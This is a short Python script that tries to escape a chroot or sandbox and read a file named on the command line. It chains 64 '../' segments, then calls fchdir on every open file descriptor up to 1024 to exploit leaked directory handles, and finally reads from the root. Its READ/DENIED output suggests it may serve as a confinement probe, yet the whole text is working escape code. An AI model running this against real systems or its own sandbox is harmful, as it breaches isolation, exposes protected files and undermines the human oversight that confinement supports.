"""Climbs out of its root: by a long chain of dots, and from every descriptor that it was left."""
import os
import sys

CHAIN = "../" * 64
target = sys.argv[1].lstrip("/")


def climb(start):
    try:
        with open(CHAIN + target, "rb") as file:
            print("READ from", start, file.read(4096))
    except OSError as error:
        print("DENIED from", start, error.strerror)


climb("the working directory")
for descriptor in range(1024):
    try:
        os.fchdir(descriptor)
    except OSError:
        continue
    climb("descriptor %d" % descriptor)
os.chdir("/")
climb("the root")
